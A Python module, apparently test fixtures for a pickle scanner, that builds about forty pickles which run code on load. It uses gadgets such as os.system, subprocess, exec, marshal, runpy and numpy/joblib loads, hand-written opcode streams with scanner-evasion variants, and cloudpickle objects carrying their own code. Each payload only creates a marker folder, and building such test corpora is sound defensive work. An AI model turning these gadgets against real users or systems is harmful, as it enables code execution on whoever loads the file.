"""Pickles that run code as they are read, by many opcodes and gadgets; each makes a marker folder."""

from __future__ import annotations

import asyncio
import bdb
import builtins
import code
import cProfile
import functools
import marshal
import operator
import os
import pickle
import runpy
import shutil
import subprocess
import timeit
import types
from collections import Counter
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import cloudpickle
import joblib
import numpy as np


class Calls:
    """Is pickled as a call; reading it back makes the call and gives what that returned."""

    def __init__(self, call: Any, *arguments: Any, state: Any = None) -> None:
        self.reduced = (call, arguments) if state is None else (call, arguments, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.reduced


def statement(marker: Path) -> str:
    return f"__import__('os').mkdir({str(marker)!r})"


def prepare(marker: Path) -> None:
    """Write the files beside the marker that some payloads lead to."""
    (marker.parent / "empty").mkdir(exist_ok=True)
    marker.with_suffix(".py").write_text(statement(marker))
    marker.with_suffix(".pkl").write_bytes(pickle.dumps(Calls(os.mkdir, str(marker))))
    np.save(marker.with_suffix(".npy"), np.array([Calls(os.mkdir, str(marker))], dtype=object))


def then(made: Calls, *arguments: Any) -> Calls:
    """Return a call of what `made` gives."""
    return Calls(operator.call, made, *arguments)


def gadgets(marker: Path) -> Mapping[str, Calls]:
    """Return one object for every way here in which reading a pickle may call something."""
    path, said = str(marker), statement(marker)
    compiled = Calls(marshal.loads, marshal.dumps(compile(said, "payload", "exec")))
    shell = ["mkdir", path]
    return {
        "os.mkdir": Calls(os.mkdir, path),
        "os.makedirs": Calls(os.makedirs, path),
        "os.system": Calls(os.system, f"mkdir '{path}'"),
        "os.popen": then(Calls(getattr, Calls(os.popen, f"mkdir '{path}'"), "read")),
        "subprocess.call": Calls(subprocess.call, shell),
        "subprocess.check_output": Calls(subprocess.check_output, shell),
        "subprocess.getoutput": Calls(subprocess.getoutput, f"mkdir '{path}'"),
        "exec": Calls(builtins.exec, said),
        "eval": Calls(builtins.eval, said),
        "compile and exec": Calls(builtins.exec, Calls(builtins.compile, said, "x", "exec")),
        "marshal and exec": Calls(builtins.exec, compiled),
        "marshal and a function": then(Calls(types.FunctionType, compiled, {})),
        "import": then(Calls(getattr, Calls(builtins.__import__, "os"), "mkdir"), path),
        "partial": then(Calls(functools.partial, os.mkdir, path)),
        "state of a partial": then(Calls(functools.partial, print, state=(os.mkdir, (path,), {}, {}))),
        "reduce": Calls(functools.reduce, os.mkdir, [path, 0o700]),
        "methodcaller": then(Calls(operator.methodcaller, "mkdir"), marker),
        "attrgetter": then(
            then(Calls(operator.attrgetter, "system"), Calls(__import__, "os")), f"mkdir '{path}'"
        ),
        "a method of a path": then(Calls(getattr, marker, "mkdir")),
        "a list of a map": Calls(list, Calls(map, os.mkdir, [path])),
        "a counter of a map": Calls(Counter, Calls(map, os.mkdir, [path])),
        "timeit": Calls(timeit.timeit, said, "pass", timeit.default_timer, 1),
        "cProfile": then(Calls(getattr, Calls(cProfile.Profile), "run"), said),
        "bdb": then(Calls(getattr, Calls(bdb.Bdb), "run"), said),
        "an interpreter": then(Calls(getattr, Calls(code.InteractiveInterpreter), "runcode"), compiled),
        "runpy": Calls(runpy.run_path, str(marker.with_suffix(".py"))),
        "asyncio": Calls(asyncio.run, Calls(asyncio.to_thread, os.mkdir, path)),
        "shutil": Calls(shutil.copytree, str(marker.parent / "empty"), path),
        "a pickle in a pickle": Calls(pickle.loads, pickle.dumps(Calls(os.mkdir, path))),
        "a joblib file": Calls(joblib.load, str(marker.with_suffix(".pkl"))),
        "a numpy file": Calls(np.load, str(marker.with_suffix(".npy")), None, True),
    }


def opcodes(marker: Path) -> Mapping[str, bytes]:
    """Return pickles written by hand, one for every opcode that can call."""
    path = str(marker).encode()
    text = b"\x8c" + bytes([len(path)]) + path  # SHORT_BINUNICODE
    system = b"\x8c\x05posix\x8c\x05mkdir\x93"  # STACK_GLOBAL
    return {
        "GLOBAL REDUCE": b"cposix\nmkdir\n(S'" + path + b"'\ntR.",
        "INST": b"(S'" + path + b"'\niposix\nmkdir\n.",
        "OBJ": b"(cposix\nmkdir\nS'" + path + b"'\no.",
        "STACK_GLOBAL REDUCE": b"\x80\x04" + system + text + b"\x85R.",
        "dotted STACK_GLOBAL": b"\x80\x04\x8c\x06shutil\x8c\x08os.mkdir\x93" + text + b"\x85R.",
        "in a memo": b"\x80\x04" + system + b"\x940" + b"h\x00" + text + b"\x85R.",
        "in a frame": b"\x80\x04\x95"
        + (len(system + text) + 3).to_bytes(8, "little")
        + system
        + text
        + b"\x85R.",
        "after garbage is popped": b"\x80\x04(K\x01K\x021" + system + text + b"\x85R.",
        "a broken end": b"\x80\x04" + system + text + b"\x85R" + b"\xff\xff",
        "before another stream": b"\x80\x04" + system + text + b"\x85R." + b"PK\x03\x04",
    }


def by_value(marker: Path) -> Mapping[str, bytes]:
    """Return cloudpickles: code travels within them."""

    class Wakes:
        def __setstate__(self, state: Any) -> None:
            marker.mkdir()

        def __getstate__(self) -> Any:
            return {"a": 1}

    class Reduces:
        def __reduce__(self) -> Any:
            return (lambda: marker.mkdir()), ()

    return {
        "a lambda is called": cloudpickle.dumps(Reduces()),
        "a class of its own wakes": cloudpickle.dumps(Wakes()),
    }
